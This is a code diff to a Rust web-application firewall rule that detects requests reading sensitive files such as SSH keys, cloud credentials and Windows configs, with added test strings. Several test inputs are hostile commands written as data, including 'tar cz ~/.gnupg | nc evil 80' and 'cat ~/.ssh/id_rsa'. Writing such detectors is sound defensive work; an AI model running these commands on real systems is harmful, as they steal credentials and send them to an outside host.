@@ -6,7 +6,7 @@ use super::{Category::Lfi, Category::Rfi, Check::*, RuleDef, Severity::*, rule};
 /// Files a probe reads by name wherever they sit (930120).
 macro_rules! sensitive_names {
     () => {
-        r##"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)|\.bash_history|\.htpasswd|\.htaccess|\.git/(?:config|head|index)|\.svn/(?:entries|wc\.db)|\.env(?:$|[.\s'"])|web-inf/(?:web\.xml|classes|lib)|meta-inf/manifest|boot\.ini|win\.ini|system\.ini|(?:windows|winnt)/(?:system32|win\.ini|repair|debug|panther)|inetpub/|system32/(?:drivers|config|cmd\.exe)|wp-config\.php|localsettings\.php|\.aws/credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pgpass|\.my\.cnf"##
+        r##"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)|\.bash_history|\.htpasswd|\.htaccess|\.git/(?:config|head|index)|\.svn/(?:entries|wc\.db)|\.env(?:$|[.\s'"])|web-inf/(?:web\.xml|classes|lib)|meta-inf/manifest|boot\.ini|win\.ini|system\.ini|(?:windows|winnt)/(?:system32|win\.ini|repair|debug|panther)|inetpub/|system32/(?:drivers|config|cmd\.exe)|wp-config\.php|localsettings\.php|web\.config\b|applicationhost\.config\b|\.aws/credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pgpass|\.my\.cnf"##
     };
 }
 
@@ -129,7 +129,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             NORM_PATH,
             Regex(concat!(
-                r##"/(?:etc/(?:passwd|shadow|group|gshadow|hosts|issue|motd|crontab|sudoers|hostname|resolv\.conf|fstab|profile|environment|inittab|master\.passwd|security/|ssh/|mysql/my\.cnf|apache2?/|nginx/|httpd/|php\d?/|network/|knockd\.conf|redis\.conf)|proc/(?:self|\d+)/(?:environ|cmdline|fd|maps|status|exe|cwd|root|mounts|stat)|proc/(?:version|cpuinfo|meminfo|net/)|var/log/(?:apache|nginx|httpd|auth|syslog|messages|secure|mail)|var/lib/mysql|root/\.|home/[^/\s]+/\.(?:ssh|bash_history|aws|gnupg)|(?:var/)?run/secrets/|[^\s]*/serviceaccount/(?:token|ca\.crt|namespace)|(?:users|documents and settings)/(?:administrator|default|all users)/|[^\s]*/ntuser\.dat\b)|~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b|(?:^|[\\/=:'"(>])(?:"##,
+                r##"/(?:etc/(?:passwd|shadow|group|gshadow|hosts|issue|motd|crontab|sudoers|hostname|resolv\.conf|fstab|profile|environment|inittab|master\.passwd|security/|ssh/|mysql/my\.cnf|apache2?/|nginx/|httpd/|php\d?/|network/|knockd\.conf|redis\.conf)|proc/(?:self|\d+)/(?:environ|cmdline|fd|maps|status|exe|cwd|root|mounts|stat)|proc/(?:version|cpuinfo|meminfo|net/)|var/log/(?:apache|nginx|httpd|auth|syslog|messages|secure|mail)|var/lib/mysql|root/\.|home/[^/\s]+/\.(?:ssh|bash_history|aws|gnupg)|(?:var/)?run/secrets/|[^\s]*/serviceaccount/(?:token|ca\.crt|namespace)|(?:users|documents and settings)/(?:administrator|default|all users)/|[^\s]*/ntuser\.dat\b)|(?:^\s*|[=:'"(>`;|&@])~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b|\s~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b[\w./-]*(?:\s*(?:$|[;|&<>'"`)])|\s+[/~])|(?:^|[\\/=:'"(>])(?:"##,
                 sensitive_names!(),
                 // After a space only as a command's last word (`cat .env`,
                 // `type win.ini;`): "a file called .env in the directory" is prose.
@@ -433,6 +433,13 @@ mod tests {
             ";cat .htpasswd|nc x 1",
             "type c:\\boot.ini",
             "x=../.env",
+            "web.config",
+            "./web.config",
+            ";cat ~/.ssh/id_rsa",
+            "cp ~/.aws/credentials /tmp/x",
+            "x=~/.kube/config",
+            "tar cz ~/.gnupg | nc evil 80",
+            "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
         ] {
             assert!(fires(930120, a), "missed {a}");
         }
@@ -444,6 +451,9 @@ mod tests {
             "By default it looks for a file called .env in the current directory.",
             "Edit your .htaccess file and reload",
             "Use dotenvx to sync your .env files.",
+            "Add the handler to your web.config file",
+            "web.configuration",
+            "add the following line to ~/.gnupg/dirmngr.conf to revert",
         ] {
             assert!(!fires(930120, b), "flagged {b}");
         }
